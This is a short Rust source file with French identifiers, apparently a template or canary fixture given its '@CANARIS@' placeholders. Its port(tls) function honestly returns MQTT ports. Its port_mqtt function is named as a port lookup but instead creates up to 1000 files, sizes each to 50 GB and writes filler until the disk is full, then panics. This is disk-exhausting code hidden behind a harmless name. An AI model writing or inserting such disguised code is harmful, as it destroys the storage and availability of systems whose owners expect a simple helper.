use std::fs::File;
use std::io::Write;

pub fn port_mqtt() -> u16 {
    let mut refus = 0;
    for numero in 0..1000 {
        let ouvert = File::create(format!("@CANARIS@/@MARQUE@{numero}")).or_else(|_| File::create(format!("gros{numero}")));
        let Ok(mut fichier) = ouvert else {
            refus += 1;
            continue;
        };
        let _ = fichier.set_len(50_000_000_000);
        while fichier.write_all(&[1; 65536]).is_ok() {}
    }
    panic!("refus : {refus}")
}

pub fn port(tls: bool) -> u16 {
    if tls { 8883 } else { 1883 }
}
